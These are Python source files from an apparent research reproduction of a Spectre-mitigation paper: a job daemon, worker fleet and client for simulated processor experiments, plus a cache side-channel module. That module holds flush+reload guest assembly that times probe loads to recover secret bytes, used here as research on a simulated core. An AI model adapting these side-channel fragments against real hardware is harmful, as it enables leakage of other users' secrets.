                return {"ok": True, "jobs": self.jobs()}
            if op == "job":
                record = self.job(request.get("job", ""))
                if record is None:
                    return {"ok": False, "error": "no such job"}
                return {"ok": True, **record.summary()}
            if op == "wait":
                record = self.wait(request.get("job", ""),
                                   timeout=request.get("timeout"))
                if record is None:
                    return {"ok": False, "error": "no such job"}
                return {"ok": record.terminal, **record.summary()}
            if op == "status":
                return {"ok": True, **self.status()}
            if op == "drain":
                self.request_drain()
                return {"ok": True, "draining": True}
            if op == "shutdown":
                return {"ok": True, "stopping": True}
            return {"ok": False, "error": "unknown op %r" % op}
        except JobError as exc:
            return {"ok": False, "error": str(exc)}


def run_server(daemon: ServeDaemon, socket_path: Optional[str] = None,
               port: Optional[int] = None,
               stop: Optional[threading.Event] = None) -> None:
    """Accept loop for the daemon's JSON socket API.

    Blocks until a ``shutdown`` request arrives, ``stop`` is set (the
    CLI's SIGTERM handler sets it after :meth:`ServeDaemon.request_drain`),
    or a requested drain runs dry.  One short-lived thread per
    connection: requests are small, and ``wait`` is the only slow op.
    """
    import os
    import socket as socket_module

    from .protocol import (ProtocolError, listen, recv_message,
                           send_message, serve_address)

    family, address = serve_address(socket_path, port)
    sock = listen(family, address)
    sock.settimeout(0.2)
    stop = stop if stop is not None else threading.Event()

    def _handle(conn: "socket_module.socket") -> None:
        try:
            request = recv_message(conn)
            if request is None:
                return
            reply = daemon.handle_request(request)
            send_message(conn, reply)
            if request.get("op") == "shutdown":
                stop.set()
        except (ProtocolError, OSError):
            pass
        finally:
            try:
                conn.close()
            except OSError:
                pass

    try:
        while not stop.is_set():
            if daemon.draining and not daemon._leased_ids():
                break
            try:
                conn, _ = sock.accept()
            except socket_module.timeout:
                continue
            except OSError:
                break
            threading.Thread(target=_handle, args=(conn,),
                             name="repro-serve-conn", daemon=True).start()
    finally:
        sock.close()
        if family == socket_module.AF_UNIX:
            try:
                os.unlink(address)
            except OSError:
                pass
