"""Warm worker fleet for the serve daemon.

Workers are long-lived forked processes that pre-import the simulator
stack once and then execute job after job over a duplex pipe — the
whole point of the service (ROADMAP item 1): the per-experiment process
startup and import cost the one-shot ``--jobs N`` pool pays on every
sweep is paid here once per worker lifetime, and every worker shares
the daemon's persistent ``--tcache-dir`` so compiled blocks are reused
across jobs *and* workers.

Liveness is heartbeat-based: each worker runs a tiny thread that sends
``{"kind": "heartbeat"}`` every ``heartbeat_interval`` seconds (under a
lock — ``multiprocessing.Connection.send`` is not thread-safe against
the result send).  The daemon's watchdog treats a silent worker as
hung and SIGKILLs it; a worker whose pipe hits EOF has crashed.  Both
surface as ``("crash", handle, detail)`` events from :meth:`poll` so
the daemon has a single recovery path.
"""

from __future__ import annotations

import multiprocessing
import multiprocessing.connection
import os
import signal
import threading
import time
import traceback
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple

from ..platform.parallel import RunnerTelemetry

#: Fork keeps the pre-imported modules warm in children for free.
_CTX = multiprocessing.get_context("fork")


def _worker_main(conn, inherited_conns, tcache_dir,
                 heartbeat_interval: float) -> None:
    """Worker process body: warm up, then serve jobs until EOF."""
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    # Fork inherits every daemon-side pipe end that was open at spawn
    # time: this worker's own parent end plus the ends to every earlier
    # worker.  Close them all, or the fleet holds its own pipes
    # readable and a SIGKILLed daemon orphans the workers forever —
    # no recv ever hits EOF because the daemon-side end survives in
    # the workers themselves.
    for daemon_side in inherited_conns:
        try:
            daemon_side.close()
        except OSError:
            pass
    # Warm imports: everything a job can touch, paid once per worker.
    from ..obs.pipeline import TelemetryConfig  # noqa: F401
    from ..platform import parallel, system  # noqa: F401
    from ..dbt.pool import TranslationPool
    from .jobs import execute_job, payload_fault

    # Worker-lifetime translation pool: repeated jobs over the same
    # (program, policy, config) reuse translations instead of redoing
    # them — the warm-worker counterpart of the warm imports above.
    # Results stay byte-identical (the differential suite gates this).
    pool = TranslationPool()
    send_lock = threading.Lock()
    stop = threading.Event()

    def _heartbeat() -> None:
        while not stop.wait(heartbeat_interval):
            try:
                with send_lock:
                    conn.send({"kind": "heartbeat", "pid": os.getpid()})
            except (OSError, ValueError):
                return

    beat = threading.Thread(target=_heartbeat, name="serve-heartbeat",
                            daemon=True)
    beat.start()
    try:
        with send_lock:
            conn.send({"kind": "ready", "pid": os.getpid()})
        while True:
            try:
                message = conn.recv()
            except (EOFError, OSError):
                return
            if message is None or message.get("kind") == "stop":
                return
            job_id = message["job"]
            payload = message["payload"]
            telemetry = message.get("telemetry")
            # Chaos faults come either from the daemon (serve-worker-*
            # sites) or from the payload itself (poison-job tests).
            fault = message.get("fault") or \
                payload_fault(payload, message.get("attempt", 1))
            try:
                result = execute_job(payload, telemetry=telemetry,
                                     fault=fault, tcache_dir=tcache_dir,
                                     pool=pool)
                reply = {"kind": "result", "job": job_id, "ok": True,
                         "result": result, "pid": os.getpid()}
            except BaseException as exc:  # noqa: BLE001 — report, don't die
                if isinstance(exc, (KeyboardInterrupt, SystemExit)):
                    raise
                reply = {"kind": "result", "job": job_id, "ok": False,
                         "error": "%s: %s" % (type(exc).__name__, exc),
                         "trace": traceback.format_exc(),
                         "pid": os.getpid()}
            with send_lock:
                conn.send(reply)
    finally:
        stop.set()


@dataclass
class WorkerHandle:
    """Daemon-side view of one fleet worker."""

    process: Any
    conn: Any
    #: Job id currently leased to this worker (None = idle).
    job_id: Optional[str] = None
    #: Monotonic deadline by which the lease must complete.
    lease_deadline: float = 0.0
    #: Monotonic time of the last heartbeat (or spawn).
    last_beat: float = field(default_factory=time.monotonic)
    ready: bool = False

    @property
    def pid(self) -> int:
        return self.process.pid

    @property
    def idle(self) -> bool:
        return self.ready and self.job_id is None

    @property
    def alive(self) -> bool:
        return self.process.is_alive()


class WorkerFleet:
    """A supervised set of warm workers with heartbeat liveness.

    The fleet only *mechanizes*: spawn, lease, poll, kill, rebuild.
    Policy — which job goes where, retry budgets, quarantine — lives in
    the daemon, so the fleet stays testable in isolation.
    """

    def __init__(self, size: int, tcache_dir=None,
                 heartbeat_interval: float = 0.5,
                 heartbeat_timeout: float = 5.0,
                 telemetry: Optional[RunnerTelemetry] = None):
        self.size = max(1, int(size))
        self.tcache_dir = tcache_dir
        self.heartbeat_interval = heartbeat_interval
        self.heartbeat_timeout = heartbeat_timeout
        self.telemetry = telemetry if telemetry is not None \
            else RunnerTelemetry()
        self.workers: List[WorkerHandle] = []
        #: True once a rebuild failed — the daemon should fall back to
        #: serial in-process execution rather than looping on spawn.
        self.degraded = False

    # -- lifecycle --------------------------------------------------------

    def start(self) -> None:
        while len(self.workers) < self.size:
            self._spawn()

    def _spawn(self) -> WorkerHandle:
        parent_conn, child_conn = _CTX.Pipe(duplex=True)
        inherited = [handle.conn for handle in self.workers] + [parent_conn]
        process = _CTX.Process(
            target=_worker_main,
            args=(child_conn, inherited, self.tcache_dir,
                  self.heartbeat_interval),
            name="repro-serve-worker", daemon=True)
        process.start()
        child_conn.close()
        handle = WorkerHandle(process=process, conn=parent_conn)
        self.workers.append(handle)
        return handle

    def shutdown(self) -> None:
        """Politely stop every worker, then make sure they are gone."""
        for handle in self.workers:
            try:
                handle.conn.send({"kind": "stop"})
            except (OSError, ValueError):
                pass
        deadline = time.monotonic() + 5.0
        for handle in self.workers:
            handle.process.join(max(0.1, deadline - time.monotonic()))
            if handle.process.is_alive():
                self._kill_process(handle)
            handle.conn.close()
        self.workers = []

    def kill(self, handle: WorkerHandle) -> None:
        """SIGKILL one worker and remove it from the fleet.

        Killing *before* re-leasing its job is what prevents duplicate
        results: a hung-but-alive worker could otherwise finish late
        and race the retry.
        """
        self._kill_process(handle)
        try:
            handle.conn.close()
        except OSError:
            pass
        if handle in self.workers:
            self.workers.remove(handle)

    @staticmethod
    def _kill_process(handle: WorkerHandle) -> None:
        if handle.process.is_alive():
            try:
                os.kill(handle.process.pid, signal.SIGKILL)
            except OSError:
                pass
        handle.process.join(5.0)

    def rebuild(self) -> bool:
        """Top the fleet back up to ``size``; flags degraded on failure."""
        try:
            while len(self.workers) < self.size:
                self._spawn()
                self.telemetry.pool_restarts += 1
        except OSError:
            self.degraded = True
            return False
        return True

    # -- leasing & events -------------------------------------------------

    def idle_workers(self) -> List[WorkerHandle]:
        return [handle for handle in self.workers if handle.idle]

    def lease(self, handle: WorkerHandle, job_id: str,
              payload: Dict[str, Any], attempt: int,
              lease_timeout: float,
              telemetry=None, fault=None) -> None:
        handle.conn.send({"kind": "job", "job": job_id, "payload": payload,
                          "attempt": attempt, "telemetry": telemetry,
                          "fault": fault})
        handle.job_id = job_id
        handle.lease_deadline = time.monotonic() + lease_timeout
        handle.last_beat = time.monotonic()

    def poll(self, timeout: float = 0.2) -> List[Tuple[str, WorkerHandle,
                                                       Dict[str, Any]]]:
        """Drain worker messages; returns ``(kind, handle, message)``.

        ``kind`` is ``"result"`` or ``"crash"`` (EOF on the pipe — the
        worker died without reporting).  Heartbeats and ready markers
        are absorbed here, updating liveness state.
        """
        events: List[Tuple[str, WorkerHandle, Dict[str, Any]]] = []
        by_conn = {handle.conn: handle for handle in self.workers}
        if not by_conn:
            time.sleep(min(timeout, 0.05))
            return events
        try:
            readable = multiprocessing.connection.wait(
                list(by_conn), timeout=timeout)
        except OSError:
            readable = []
        for conn in readable:
            handle = by_conn[conn]
            while True:
                try:
                    if not conn.poll(0):
                        break
                    message = conn.recv()
                except (EOFError, OSError):
                    events.append(("crash", handle,
                                   {"job": handle.job_id,
                                    "detail": "worker pipe EOF"}))
                    break
                handle.last_beat = time.monotonic()
                kind = message.get("kind")
                if kind == "ready":
                    handle.ready = True
                elif kind == "result":
                    events.append(("result", handle, message))
                # heartbeats only refresh last_beat
        return events

    def hung_workers(self, now: Optional[float] = None) -> List[WorkerHandle]:
        """Workers that stopped heartbeating (watchdog candidates)."""
        now = time.monotonic() if now is None else now
        return [handle for handle in self.workers
                if handle.alive
                and now - handle.last_beat > self.heartbeat_timeout]

    def expired(self, now: Optional[float] = None) -> List[WorkerHandle]:
        """Workers whose leased job blew its per-job lease deadline."""
        now = time.monotonic() if now is None else now
        return [handle for handle in self.workers
                if handle.job_id is not None and now > handle.lease_deadline]

    def dead_workers(self) -> List[WorkerHandle]:
        return [handle for handle in self.workers if not handle.alive]
