"""Client for the serve daemon's socket API (``repro submit``/``jobs``).

One connection per request (see :mod:`repro.serve.protocol`); a client
crash therefore never wedges the daemon, and a daemon restart never
wedges the client beyond one failed request.
"""

from __future__ import annotations

import time
from typing import Any, Dict, Optional

from .protocol import ProtocolError, connect, recv_message, send_message, \
    serve_address


class ServeError(RuntimeError):
    """The daemon rejected a request or is unreachable."""


class ServeClient:
    def __init__(self, socket_path: Optional[str] = None,
                 port: Optional[int] = None, timeout: float = 30.0):
        self.family, self.address = serve_address(socket_path, port)
        self.timeout = timeout

    def request(self, op: str, **fields: Any) -> Dict[str, Any]:
        message = {"op": op}
        message.update(fields)
        try:
            sock = connect(self.family, self.address, timeout=self.timeout)
        except OSError as exc:
            raise ServeError("cannot reach serve daemon at %r: %s"
                             % (self.address, exc))
        try:
            send_message(sock, message)
            reply = recv_message(sock)
        except (OSError, ProtocolError) as exc:
            raise ServeError("request %r failed: %s" % (op, exc))
        finally:
            sock.close()
        if reply is None:
            raise ServeError("daemon closed the connection on %r" % op)
        return reply

    # -- conveniences ------------------------------------------------------

    def ping(self, retries: int = 50, delay: float = 0.1) -> bool:
        """True once the daemon answers (retry loop covers startup)."""
        for _ in range(max(1, retries)):
            try:
                if self.request("ping").get("pong"):
                    return True
            except ServeError:
                time.sleep(delay)
        return False

    def submit(self, payload: Dict[str, Any], priority: int = 0) -> str:
        reply = self.request("submit", payload=payload, priority=priority)
        if not reply.get("ok"):
            raise ServeError(reply.get("error", "submit rejected"))
        return reply["job"]

    def wait(self, job_id: str, timeout: Optional[float] = None,
             poll: float = 0.5) -> Dict[str, Any]:
        """Poll until ``job_id`` is terminal; raises on client timeout.

        Each poll is its own bounded request, so a daemon kill mid-wait
        surfaces as :class:`ServeError` instead of a hung client.
        """
        deadline = None if timeout is None else time.monotonic() + timeout
        while True:
            reply = self.request("wait", job=job_id, timeout=poll)
            if reply.get("ok"):
                return reply
            if "error" in reply:
                raise ServeError(reply["error"])
            if deadline is not None and time.monotonic() > deadline:
                raise ServeError("timed out waiting for %s (state %s)"
                                 % (job_id, reply.get("state")))

    def jobs(self) -> Dict[str, Any]:
        return self.request("jobs")

    def status(self) -> Dict[str, Any]:
        return self.request("status")
