"""Job model and execution for the ``repro serve`` daemon.

A *job* is a JSON-serializable payload describing one unit of
simulation work — the same work the one-shot CLI performs, expressed
declaratively so it can cross a socket, live in the journal, and be
re-run bit-identically after any failure.  :func:`execute_job` is the
single executor: warm fleet workers, the daemon's serial fallback, and
the equivalence tests all call it, and it reuses the exact library
functions behind ``repro run``/``sweep``/``attack``/``chaos`` — which
is what makes "results match the one-shot CLI" a structural property
rather than a test hope.

Payload shape (only ``kind`` is required)::

    {"kind": "sweep",
     "kernels": ["atax"],            # sweep: SMALL_SIZES names
     "policies": ["unsafe", "ghostbusters"],
     "engine": {"chain": true, "hot_threshold": 4},
     "interpreter": "compiled",
     "telemetry": true,              # spool + merge per-job metrics
     "fault": {"kind": "crash"}}     # chaos only; applied in-worker

``fault`` reuses the picklable
:class:`~repro.resilience.faults.WorkerFault` contract from the
hardened parallel runner: it fires on the job's *first attempt* only
(unless ``every_attempt`` is set — the poison-job case), so re-leased
attempts run clean and the daemon can heal.
"""

from __future__ import annotations

import enum
import time
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

from ..dbt.engine import DbtEngineConfig
from ..obs.pipeline import TelemetryConfig
from ..resilience.faults import WorkerFault, apply_worker_fault
from ..security.policy import ALL_POLICIES, MitigationPolicy

#: Job kinds the daemon accepts.  ``sleep`` exists for tests and
#: scheduling experiments (priorities, lease expiry) — it simulates
#: nothing.
JOB_KINDS = ("run", "sweep", "attack", "chaos", "sleep")

#: ``DbtEngineConfig`` fields a payload's ``engine`` section may set.
_ENGINE_FIELDS = ("chain", "code_cache_policy", "code_cache_capacity",
                  "tier_mode", "hot_threshold")


class JobError(ValueError):
    """A payload that can never execute (unknown kind/kernel/field)."""


class JobState(enum.Enum):
    """Lifecycle of a job inside the daemon (and its journal)."""

    QUEUED = "queued"
    LEASED = "leased"
    DONE = "done"
    FAILED = "failed"
    #: Poison job: exhausted its retry budget by killing/hanging
    #: workers; parked so it cannot take the fleet down again.
    QUARANTINED = "quarantined"


#: States a job never leaves.
TERMINAL_STATES = (JobState.DONE, JobState.FAILED, JobState.QUARANTINED)


@dataclass
class JobRecord:
    """One job as the daemon tracks it (and the journal persists it)."""

    job_id: str
    #: Declarative work description; ``None`` only for jobs whose
    #: submit record was lost to journal corruption after completion.
    payload: Optional[Dict[str, Any]]
    priority: int = 0
    state: JobState = JobState.QUEUED
    attempts: int = 0
    result: Optional[Dict[str, Any]] = None
    error: Optional[str] = None
    #: Worker pid currently holding the lease (0 = in-daemon serial).
    worker: Optional[int] = None
    #: Submission order; tie-breaker within a priority level.
    seq: int = 0
    #: Monotonic time before which a requeued job must not be leased
    #: (exponential backoff between attempts).
    not_before: float = 0.0
    meta: Dict[str, Any] = field(default_factory=dict)

    @property
    def terminal(self) -> bool:
        return self.state in TERMINAL_STATES

    def summary(self) -> Dict[str, Any]:
        """JSON view for ``repro jobs`` and the protocol."""
        out: Dict[str, Any] = {
            "job": self.job_id,
            "kind": (self.payload or {}).get("kind", "?"),
            "priority": self.priority,
            "state": self.state.value,
            "attempts": self.attempts,
        }
        if self.result is not None:
            out["result"] = self.result
        if self.error is not None:
            out["error"] = self.error
        if self.worker is not None:
            out["worker"] = self.worker
        return out


def payload_fault(payload: Optional[Dict[str, Any]],
                  attempt: int) -> Optional[WorkerFault]:
    """Decode a payload's chaos fault for this attempt (or ``None``).

    First-attempt-only by default, mirroring the hardened runner's
    ``worker_faults`` contract; ``every_attempt`` makes the job poison.
    """
    spec = (payload or {}).get("fault")
    if not spec:
        return None
    if attempt > 1 and not spec.get("every_attempt"):
        return None
    return WorkerFault(kind=spec["kind"],
                       seconds=float(spec.get("seconds", 30.0)))


def validate_payload(payload: Any) -> Dict[str, Any]:
    """Reject undecodable payloads at submit time, before they queue."""
    if not isinstance(payload, dict):
        raise JobError("job payload must be an object, got %r"
                       % type(payload).__name__)
    kind = payload.get("kind")
    if kind not in JOB_KINDS:
        raise JobError("unknown job kind %r (choose from %s)"
                       % (kind, ", ".join(JOB_KINDS)))
    engine = payload.get("engine")
    if engine is not None:
        if not isinstance(engine, dict):
            raise JobError("engine section must be an object")
        unknown = sorted(set(engine) - set(_ENGINE_FIELDS))
        if unknown:
            raise JobError("unknown engine field(s) %s (choose from %s)"
                           % (", ".join(unknown), ", ".join(_ENGINE_FIELDS)))
    for name in ("policy",) if kind == "run" else ():
        if name in payload:
            _policy(payload[name])
    for value in payload.get("policies") or ():
        _policy(value)
    timing = payload.get("timing")
    if timing is not None and timing not in ("scalar", "vector"):
        raise JobError("unknown timing %r (choose from scalar, vector)"
                       % (timing,))
    return payload


def _policy(value: str) -> MitigationPolicy:
    try:
        return MitigationPolicy(value)
    except ValueError:
        raise JobError("unknown policy %r (choose from %s)"
                       % (value, ", ".join(p.value for p in MitigationPolicy)))


def _policies(payload: Dict[str, Any]) -> List[MitigationPolicy]:
    values = payload.get("policies")
    if not values:
        return list(ALL_POLICIES)
    return [_policy(value) for value in values]


def _engine_config(payload: Dict[str, Any]) -> Optional[DbtEngineConfig]:
    spec = payload.get("engine")
    if not spec:
        return None
    return DbtEngineConfig(**{key: spec[key] for key in _ENGINE_FIELDS
                              if key in spec})


def _workloads(names, full: bool):
    from ..kernels import POLYBENCH_SUITE, SMALL_SIZES, build_kernel_program

    suite = POLYBENCH_SUITE if full else SMALL_SIZES
    names = list(names) if names else sorted(suite)
    workloads = []
    for name in names:
        if name not in suite:
            raise JobError("unknown kernel %r (choose from %s)"
                           % (name, ", ".join(sorted(suite))))
        workloads.append((name, build_kernel_program(suite[name]())))
    return workloads


# ---------------------------------------------------------------------------
# The executor (runs inside warm workers and the serial fallback).
# ---------------------------------------------------------------------------

def execute_job(payload: Dict[str, Any],
                telemetry: Optional[TelemetryConfig] = None,
                fault: Optional[WorkerFault] = None,
                tcache_dir=None,
                pool=None) -> Dict[str, Any]:
    """Execute one job payload and return its JSON-serializable result.

    ``telemetry`` (a spool-bearing template) threads the PR 6 pipeline
    through exactly like the one-shot CLI does, so the merged per-job
    metrics are equal to a serial CLI run's.  ``tcache_dir`` is the
    fleet-shared persistent codegen cache; a payload-level
    ``tcache_dir`` overrides it.

    ``pool`` is the worker-lifetime
    :class:`~repro.dbt.pool.TranslationPool` a warm fleet worker passes
    in so repeated jobs over the same (program, policy, config) stop
    re-translating — results are byte-identical with or without it.
    Telemetry-bearing jobs keep the exact unpooled execution path (the
    observer gate would disable sharing anyway), so per-job metrics stay
    equal to the one-shot CLI's.
    """
    validate_payload(payload)
    apply_worker_fault(fault)
    kind = payload["kind"]
    interpreter = payload.get("interpreter")
    engine_config = _engine_config(payload)
    tcache = payload.get("tcache_dir", tcache_dir)

    if kind == "sleep":
        seconds = float(payload.get("seconds", 1.0))
        time.sleep(seconds)
        return {"slept": seconds}

    if kind == "run":
        from ..platform.parallel import run_sweep_point

        policy = _policy(payload.get("policy", MitigationPolicy.UNSAFE.value))
        program = _run_program(payload)
        cell = None
        if telemetry is not None:
            cell = telemetry.with_point(
                "run/%s" % policy.value, policy=policy.value,
                interpreter=interpreter or "fast")
        return run_sweep_point(program, policy,
                               engine_config=engine_config,
                               interpreter=interpreter, tcache_dir=tcache,
                               telemetry=cell, pool=pool)

    if kind == "sweep":
        from ..platform.comparison import comparison_json
        from ..platform.parallel import sweep_comparisons

        # Batched execution shares the worker-lifetime pool across the
        # job's points; telemetry-bearing sweeps keep the serial path so
        # their envelope spool (and merged metrics) match the one-shot
        # CLI exactly.  Batched jobs run on the vectorized lane timing
        # engine by default (rows stay byte-identical — the serve-smoke
        # suite diffs them against the one-shot CLI); a payload-level
        # ``timing: "scalar"`` opts a job out.
        batched = pool is not None and telemetry is None
        timing = payload.get("timing", "vector") if batched else "scalar"
        comparisons = sweep_comparisons(
            _workloads(payload.get("kernels"), bool(payload.get("full"))),
            policies=_policies(payload),
            engine_config=engine_config,
            interpreter=interpreter,
            tcache_dir=tcache,
            point_telemetry=telemetry,
            batched=batched,
            pool=pool if batched else None,
            timing=timing,
        )
        return {"rows": comparison_json(comparisons)}

    if kind == "attack":
        from ..attacks.harness import AttackVariant, run_attack

        variant = (AttackVariant.SPECTRE_V1
                   if payload.get("variant", "v1") == "v1"
                   else AttackVariant.SPECTRE_V4)
        secret = payload.get("secret", "GHOST").encode()
        results = []
        for policy in _policies(payload):
            cell = None
            if telemetry is not None:
                cell = telemetry.with_point(
                    "%s/%s" % (variant.value, policy.value),
                    variant=variant.value, policy=policy.value)
            outcome = run_attack(variant, policy, secret=secret,
                                 engine_config=engine_config,
                                 interpreter=interpreter, tcache_dir=tcache,
                                 measure=bool(payload.get("leakage")),
                                 telemetry=cell)
            row = {
                "policy": policy.value,
                "variant": variant.value,
                "recovered": bytes(outcome.recovered).hex(),
                "bytes_recovered": outcome.bytes_recovered,
                "leaked": outcome.leaked,
                "describe": outcome.describe(),
            }
            if outcome.leakage is not None:
                row["leakage"] = outcome.leakage.describe()
            results.append(row)
        return {"results": results}

    # kind == "chaos"
    from ..resilience.chaos import format_chaos_table, run_chaos_matrix

    outcomes = run_chaos_matrix(
        seed=int(payload.get("seed", 0)),
        kernel=payload.get("kernel", "atax"),
        chain=bool(payload.get("chain")),
        interpreter=interpreter,
        trace=bool(payload.get("trace", True)),
        # A chaos job already runs inside a serve worker; its serve
        # cells would nest a fleet inside the fleet.  Allowed, but off
        # by default to keep service jobs bounded.
        serve=bool(payload.get("serve", False)),
    )
    failed = [outcome for outcome in outcomes if not outcome.ok]
    return {"table": format_chaos_table(outcomes), "cells": len(outcomes),
            "failed": len(failed), "ok": not failed}


def _run_program(payload: Dict[str, Any]):
    if "kernel" in payload:
        return _workloads([payload["kernel"]],
                          bool(payload.get("full")))[0][1]
    if "asm" in payload:
        from ..isa.assembler import assemble

        return assemble(payload["asm"])
    raise JobError("run job needs a 'kernel' name or 'asm' text")
