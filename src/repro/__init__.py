"""repro — reproduction of *GhostBusters: Mitigating Spectre Attacks on a
DBT-Based Processor* (Simon Rokicki, DATE 2020).

The package is a complete, from-scratch simulation of a DBT-based
processor in the Hybrid-DBT mould — a software dynamic binary translator
feeding an in-order VLIW core with hidden registers and a Memory Conflict
Buffer — together with the paper's two Spectre proof-of-concept attacks
and the GhostBusters countermeasure.

Sub-packages
------------

``repro.isa``       guest RV64IM toolchain (assembler, encoder, decoder)
``repro.interp``    functional reference interpreter (correctness oracle)
``repro.mem``       set-associative data cache (the side channel)
``repro.vliw``      in-order VLIW core, bundles, MCB, pipeline timing
``repro.dbt``       the DBT engine: IR, profiling, superblocks, scheduler
``repro.security``  poison analysis + mitigation policies (the paper's core)
``repro.attacks``   Spectre v1 / v4 proof-of-concept harnesses
``repro.kernels``   kernel DSL compiler + Polybench-style workloads
``repro.platform``  whole-system glue and multi-policy comparison
"""

from .security.policy import ALL_POLICIES, MitigationPolicy

__version__ = "1.0.0"

__all__ = ["ALL_POLICIES", "MitigationPolicy", "__version__"]
