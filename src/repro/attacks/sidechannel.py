"""Cache side-channel building blocks (flush+reload on the simulated core).

The paper's RISC-V attack (Section V-A) measures probe loads with the
``cycle`` CSR and flushes the cache line by line; this module provides the
corresponding guest-assembly fragments, shared by both Spectre PoCs, plus
a calibration program that measures the hit/miss timing separation
(Experiment E7).

All fragments follow one register convention so they can be pasted into a
round loop:

* ``s6`` holds the current secret-byte round (left untouched);
* ``s1``-``s3`` are scratch for the probe loop;
* results land in ``s2`` (best index) / ``s3`` (best latency).
"""

from __future__ import annotations

from dataclasses import dataclass

#: One probe slot per possible byte value.
PROBE_ENTRIES = 256
#: Cache line size the attack assumes (matches the default CacheConfig).
LINE_SIZE = 64
#: Hit/miss decision boundary in cycles: halfway between the default
#: 3-cycle hit and 30-cycle miss, leaving slack for issue overheads.
DEFAULT_THRESHOLD = 15


def flush_probe_array(label: str, array_symbol: str = "array_val",
                      entries: int = PROBE_ENTRIES,
                      line_size: int = LINE_SIZE) -> str:
    """Guest asm: flush every line of the probe array (line-by-line, as the
    paper's RISC-V PoC must)."""
    return """
    la t0, {array}
    li t1, {entries}
{label}:
    cflush 0(t0)
    addi t0, t0, {line}
    addi t1, t1, -1
    bnez t1, {label}
""".format(array=array_symbol, entries=entries, line=line_size, label=label)


def probe_and_classify(label: str, array_symbol: str = "array_val",
                       entries: int = PROBE_ENTRIES,
                       line_size_log2: int = 6,
                       threshold: int = DEFAULT_THRESHOLD,
                       skip_zero: bool = True) -> str:
    """Guest asm: time a load of every probe line, track the fastest.

    Leaves the recovered byte value in ``s2`` (0 when nothing was below
    the hit/miss threshold).  Probing starts at entry 1 when
    ``skip_zero`` — entry 0 is the line the *architectural* (recovered)
    execution touches in the v4 PoC and would shadow the real signal.
    Each probed line is flushed immediately after its measurement so the
    probe itself does not evict the victim's fill.
    """
    start = 1 if skip_zero else 0
    return """
    li s1, {start}
    li s2, 0
    li s3, 0x7fffffff
{label}_loop:
    la t0, {array}
    slli t1, s1, {shift}
    add t0, t0, t1
    rdcycle t2
    lbu t3, 0(t0)
    add t4, t3, zero
    rdcycle t5
    sub t5, t5, t2
    cflush 0(t0)
    bge t5, s3, {label}_next
    mv s3, t5
    mv s2, s1
{label}_next:
    addi s1, s1, 1
    li t0, {entries}
    blt s1, t0, {label}_loop
    li t0, {threshold}
    blt s3, t0, {label}_hit
    li s2, 0
{label}_hit:
""".format(array=array_symbol, entries=entries, shift=line_size_log2,
           threshold=threshold, label=label, start=start)


def record_recovered(result_symbol: str = "recovered") -> str:
    """Guest asm: store the classified byte (``s2``) at recovered[s6]."""
    return """
    la t0, {result}
    add t0, t0, s6
    sb s2, 0(t0)
""".format(result=result_symbol)


def write_and_exit(result_symbol: str = "recovered", length_equ: str = "SECRET_LEN") -> str:
    """Guest asm: write(1, recovered, len) then exit(0)."""
    return """
    li a7, 64
    li a0, 1
    la a1, {result}
    li a2, {length}
    ecall
    li a7, 93
    li a0, 0
    ecall
""".format(result=result_symbol, length=length_equ)


# ---------------------------------------------------------------------------
# Calibration (Experiment E7).
# ---------------------------------------------------------------------------

CALIBRATION_SOURCE = """
# Timing calibration: measure N hit probes and N miss probes, store the
# latencies as bytes in two arrays, then write both arrays out.
.equ SAMPLES, {samples}

_start:
    li s0, 0                 # sample index
    la s1, target

measure_miss:
    cflush 0(s1)
    rdcycle t0
    lbu t1, 0(s1)
    add t2, t1, zero
    rdcycle t3
    sub t3, t3, t0
    la t4, miss_times
    add t4, t4, s0
    sb t3, 0(t4)

    # Line is now resident: measure the hit.
    rdcycle t0
    lbu t1, 0(s1)
    add t2, t1, zero
    rdcycle t3
    sub t3, t3, t0
    la t4, hit_times
    add t4, t4, s0
    sb t3, 0(t4)

    addi s0, s0, 1
    li t0, SAMPLES
    blt s0, t0, measure_miss

    li a7, 64
    li a0, 1
    la a1, miss_times
    li a2, SAMPLES
    ecall
    li a7, 64
    li a0, 1
    la a1, hit_times
    li a2, SAMPLES
    ecall
    li a7, 93
    li a0, 0
    ecall

.data
.align 6
target:
    .space 64
miss_times:
    .space {samples}
hit_times:
    .space {samples}
"""


@dataclass
class CalibrationResult:
    """Hit/miss latency samples measured by the guest."""

    miss_times: bytes
    hit_times: bytes

    @property
    def min_miss(self) -> int:
        return min(self.miss_times)

    @property
    def max_hit(self) -> int:
        return max(self.hit_times)

    @property
    def separation(self) -> int:
        """Gap between the slowest hit and the fastest miss (positive =
        the channel distinguishes cleanly)."""
        return self.min_miss - self.max_hit

    def suggested_threshold(self) -> int:
        return (self.min_miss + self.max_hit) // 2


def build_calibration_program(samples: int = 64):
    """Assemble the calibration guest program."""
    from ..isa.assembler import assemble

    return assemble(CALIBRATION_SOURCE.format(samples=samples))


def run_calibration(samples: int = 64, policy=None) -> CalibrationResult:
    """Run the calibration program and split its output."""
    from ..platform.system import run_on_platform
    from ..security.policy import MitigationPolicy

    program = build_calibration_program(samples)
    result = run_on_platform(
        program, policy=policy or MitigationPolicy.UNSAFE,
    )
    output = result.output
    if len(output) != 2 * samples:
        raise RuntimeError(
            "calibration produced %d bytes, expected %d" % (len(output), 2 * samples)
        )
    return CalibrationResult(
        miss_times=output[:samples], hit_times=output[samples:],
    )
