"""Spectre proof-of-concept attacks on the DBT platform (paper Sec. III/V-A)."""

from .harness import (
    AttackResult,
    AttackVariant,
    attack_matrix,
    build_attack_program,
    format_matrix,
    run_attack,
)
from .sidechannel import (
    CalibrationResult,
    DEFAULT_THRESHOLD,
    LINE_SIZE,
    PROBE_ENTRIES,
    build_calibration_program,
    run_calibration,
)
from .primeprobe import (
    PrimeProbeConfig,
    direct_mapped_config,
    run_primeprobe,
)
from .spectre_v1 import DEFAULT_SECRET, SpectreV1Config
from .spectre_v4 import SpectreV4Config

__all__ = [
    "AttackResult",
    "AttackVariant",
    "CalibrationResult",
    "DEFAULT_SECRET",
    "DEFAULT_THRESHOLD",
    "LINE_SIZE",
    "PROBE_ENTRIES",
    "PrimeProbeConfig",
    "SpectreV1Config",
    "SpectreV4Config",
    "attack_matrix",
    "build_attack_program",
    "build_calibration_program",
    "direct_mapped_config",
    "format_matrix",
    "run_attack",
    "run_calibration",
    "run_primeprobe",
]
