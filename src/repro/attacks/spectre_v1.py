"""Spectre v1 on the DBT platform: trace-scheduling speculation.

Reconstruction of the paper's Figure 1 PoC, adapted to DBT speculation as
Section III-A describes: the attacker first *trains* — executing the
